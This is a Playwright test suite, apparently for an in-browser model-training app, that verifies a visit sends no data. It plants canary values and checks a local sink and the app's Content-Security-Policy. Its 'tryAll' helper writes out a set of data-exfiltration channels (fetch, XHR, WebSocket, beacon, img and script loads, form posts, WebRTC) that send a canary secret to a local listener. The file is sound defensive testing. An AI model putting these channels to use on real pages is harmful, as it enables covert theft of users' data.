import { readdirSync } from 'node:fs';
import type { Page, TestInfo, Worker } from '@playwright/test';
import * as drive from '../../scripts/drive.mjs';
import { serveFolder } from '../../scripts/serve.mjs';
import { expect, test as base } from '@playwright/test';
import { readSheet, upload, type Upload } from './support/csv.ts';
import { customers } from './support/made-up.ts';
import { openSink, type Sink } from './support/sink.ts';
import { workerNamed } from './support/workers.ts';

/** Values that stand in the data and nowhere else. */
const CANARIES = ['canary4711', 'zebra-halfmoon', '918273645.5'] as const;

interface Watched {
  readonly sink: Sink;
  /** Everything that the page's own server was asked for, as it came over the wire. */
  readonly served: { method: string; url: string; headers: string }[];
  /** Everything that the browser says the page asked for, blob: and data: apart. */
  readonly asked: { url: string; body: string }[];
  /** Whether the page has loaded: the requests before are the page itself. */
  readonly startOver: () => void;
}

const test = base.extend<{ watched: Watched }>({
  watched: async ({ page }, run) => {
    const sink = await openSink();
    const served: Watched['served'] = [];
    const asked: Watched['asked'] = [];
    const server = await serveFolder(process.env['SIGHTGLASS_DIST'] ?? 'dist', {
      base: '/sub/path/',
      onRequest: ({ method, url, headers }) => served.push({ method, url, headers: JSON.stringify(headers) }),
    });
    page.context().on('request', (request) => {
      if (!/^(blob|data):/.test(request.url())) asked.push({ url: request.url(), body: request.postData() ?? '' });
    });
    await drive.openStart(page, server.url);
    await page.waitForLoadState('load');
    const startOver = (): void => {
      served.length = 0;
      asked.length = 0;
    };
    await run({ sink, served, asked, startOver });
    await server.close();
    await sink.close();
  },
});

/** Canary values as an id, a category, a number and a column's name. */
function table(rows: number): string {
  const [header = '', ...lines] = customers(rows).trimEnd().split('\n');
  const marked = lines.map(
    (line, i) => `${line},${i % 9 === 0 ? CANARIES[1] : 'plain'},${i % 7 === 0 ? CANARIES[2] : i}`,
  );
  return [`${header},${CANARIES[0]},amount`, ...marked].join('\n').concat('\n');
}

/** Files of the built page, which are the same for everybody. */
function ownFiles(): ReadonlySet<string> {
  const folder = process.env['SIGHTGLASS_DIST'] ?? 'dist';
  return new Set(readdirSync(folder, { recursive: true, encoding: 'utf8' }).map((name) => name.replaceAll('\\', '/')));
}

/** From a file to a scored one, by way of every tab. */
async function visit(page: Page, testInfo: TestInfo, file: Upload): Promise<void> {
  await drive.dropFiles(page, file);
  await drive.goToStep(page, 'Prepare');
  await drive.goToStep(page, 'Train');
  await drive.chooseTarget(page, { target: 'left' });
  await drive.chooseSettings(page, { preset: 'quick', backend: 'wasm' });
  await drive.train(page);
  for (const name of ['Figures', 'Curves', 'Calibration', 'Leaderboard']) {
    await page.getByRole('tab', { name, exact: true }).click();
  }
  await drive.downloadReceipt(page, testInfo.outputPath('report.json'));
  await drive.scoreFile(page, upload('new.csv', table(60)));
  await drive.downloadScored(page, testInfo.outputPath('predictions.csv'));
}

/** Makes a link, and saves everything that can be taken along. */
async function takeAlong(page: Page): Promise<void> {
  const dialog = await drive.openShare(page);
  expect(await drive.sharedLink(page)).toContain('#/r/1.');
  await dialog.getByText('As a file', { exact: true }).click();
  const saved = async (button: string): Promise<void> => {
    const download = page.waitForEvent('download');
    await dialog.getByRole('button', { name: button, exact: true }).click();
    await (await download).path();
  };
  await saved('Save as a file (HTML)');
  await dialog.getByRole('tab', { name: 'Project file' }).click();
  await saved('Save the project');
  await dialog.getByRole('tab', { name: 'Other files' }).click();
  for (const name of ['Model card (Markdown)', 'Python script', 'The table as cleaned (CSV)'])
    await saved(`Save: ${name}`);
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
}

test('a whole visit sends nothing: zero bytes at a listening server, only the page’s own files asked for', async ({
  page,
  watched,
}, testInfo) => {
  const { sink, served, asked, startOver } = watched;
  startOver();

  await visit(page, testInfo, upload(`${CANARIES[0]}.csv`, table(500)));
  await drive.openRowForm(page);
  await takeAlong(page);
  await drive.giveOutcomes(page, upload('came.csv', table(200)), { how: 'rescored', outcome: 'left' });
  await page.getByRole('button', { name: /^On this device/ }).click();
  await expect(page.getByRole('dialog')).toContainText('Requests to anywhere since the page had loaded: 0.');
  await page.reload();
  await expect(page.getByRole('main').getByRole('heading', { level: 1 })).toBeVisible();

  // The canaries did come through the page: had anything been sent, they would be in it.
  const scored = readSheet(testInfo.outputPath('predictions.csv'));
  expect(scored.header).toContain(CANARIES[0]);
  expect(scored.rows.flat()).toEqual(expect.arrayContaining([CANARIES[1], CANARIES[2]]));

  expect(sink.received()).toEqual({ connections: 0, bytes: 0 });
  const own = ownFiles();
  const origin = new URL(page.url()).origin;
  for (const { url, body } of asked) {
    const address = new URL(url);
    expect(address.origin, url).toBe(origin);
    expect(address.search, url).toBe('');
    expect(own.has(address.pathname.replace(/^\/sub\/path\//, '') || 'index.html'), url).toBe(true);
    expect(body, url).toBe('');
  }
  expect(served.length).toBeGreaterThan(0);
  for (const { method, url, headers } of served) {
    expect(method).toBe('GET');
    expect(own.has(url.replace(/^\/sub\/path\//, '') || 'index.html'), url).toBe(true);
    for (const canary of CANARIES) expect(`${url} ${headers}`.includes(canary), `${canary} in ${url}`).toBe(false);
  }
});

test('once its own files are there, the page asks for nothing more and works with the network cut', async ({
  page,
  watched,
}, testInfo) => {
  const { sink, served, asked, startOver } = watched;
  // The rest of the page is fetched ahead, a file at a time, whatever the visitor does.
  await page.waitForLoadState('networkidle');
  startOver();
  await page.context().setOffline(true);

  await visit(page, testInfo, upload('customers.csv', table(300)));
  await drive.giveOutcomes(page, upload('came.csv', table(200)), { how: 'rescored', outcome: 'left' });
  await takeAlong(page);

  expect(served.map(({ url }) => url)).toEqual([]);
  expect(asked).toEqual([]);
  expect(sink.received()).toEqual({ connections: 0, bytes: 0 });
});

test.describe('had the page tried to send something', () => {
  /** Everything a script could use to send, tried from the page and from its workers. */
  const tryAll = async (scope: Pick<Worker, 'evaluate'>, port: number): Promise<Record<string, string>> =>
    scope.evaluate(async (to) => {
      const http = `http://127.0.0.1:${to}/take?secret=canary4711`;
      const outcome: Record<string, string> = {};
      const attempt = async (name: string, act: () => Promise<unknown>): Promise<void> => {
        try {
          outcome[name] = String(await act());
        } catch {
          outcome[name] = 'blocked';
        }
      };
      await attempt('fetch', () => fetch(http, { method: 'POST', body: 'canary4711', mode: 'no-cors' }));
      await attempt('fetch of its own origin', () => fetch('./canary4711'));
      await attempt(
        'XMLHttpRequest',
        () =>
          new Promise((done, failed) => {
            const request = new XMLHttpRequest();
            request.onload = done;
            request.onerror = failed;
            request.open('POST', http);
            request.send('canary4711');
          }),
      );
      await attempt(
        'WebSocket',
        () =>
          new Promise((done, failed) => {
            const socket = new WebSocket(`ws://127.0.0.1:${to}/canary4711`);
            socket.onopen = done;
            socket.onerror = failed;
          }),
      );
      await attempt(
        'EventSource',
        () =>
          new Promise((done, failed) => {
            const source = new EventSource(http);
            source.onopen = done;
            source.onerror = failed;
          }),
      );
      if (typeof document !== 'undefined') {
        await attempt('beacon', async () => {
          if (!navigator.sendBeacon(http, 'canary4711')) throw new Error('refused');
          return 'queued';
        });
        const load = (element: HTMLElement & { src?: string }): Promise<unknown> =>
          new Promise((done, failed) => {
            element.onload = done;
            element.onerror = failed;
            element.src = http;
            document.body.append(element);
            setTimeout(failed, 2000);
          });
        await attempt('picture', () => load(document.createElement('img')));
        await attempt('script', () => load(document.createElement('script')));
        await attempt('WebRTC', async () => new RTCPeerConnection());
        await attempt('form', async () => {
          const form = document.createElement('form');
          form.action = http;
          form.method = 'post';
          form.target = '_self';
          document.body.append(form);
          form.submit();
          await new Promise((later) => setTimeout(later, 300));
          throw new Error('still here');
        });
      }
      return outcome;
    }, port);

  test('the browser stops it, in the page and in both workers', async ({ page, watched }) => {
    const { sink } = watched;
    const policy = page.locator('meta[http-equiv="Content-Security-Policy"]');
    await expect(policy).toHaveAttribute('content', /default-src 'none'.*connect-src 'none'.*worker-src 'self' blob:/);

    await drive.dropFiles(page, upload('customers.csv', customers(3000)));
    await drive.goToStep(page, 'Train');
    await drive.chooseSettings(page, { preset: 'thorough' });
    await drive.startTraining(page);

    for (const name of ['data', 'training'] as const) {
      const outcome = await tryAll(await workerNamed(page, name), sink.port);
      expect(Object.keys(outcome).length, name).toBeGreaterThanOrEqual(5);
      expect(outcome, name).toEqual(Object.fromEntries(Object.keys(outcome).map((way) => [way, 'blocked'])));
    }
    const outcome = await tryAll(page, sink.port);
    // A beacon is queued whatever becomes of it: what arrives counts. For a form, Chromium opens a connection before it
    // looks at the policy, and sends nothing over it.
    const { beacon: _queued, ...rest } = outcome;
    expect(rest).toEqual(Object.fromEntries(Object.keys(rest).map((way) => [way, 'blocked'])));
    await page.waitForTimeout(500);
    expect(sink.received().bytes).toBe(0);
  });

  test('the server would have heard it: without the policy the same attempts arrive', async ({ page, watched }) => {
    const { sink } = watched;
    await page.route('**/open.html', (route) => route.fulfill({ contentType: 'text/html', body: '<p>no policy</p>' }));
    await page.goto(new URL('open.html', page.url()).href);
    const outcome = await tryAll(page, sink.port).catch(() => ({ fetch: 'sent' }));
    expect(outcome.fetch).not.toBe('blocked');
    await expect.poll(() => sink.received().bytes).toBeGreaterThan(0);
  });
});
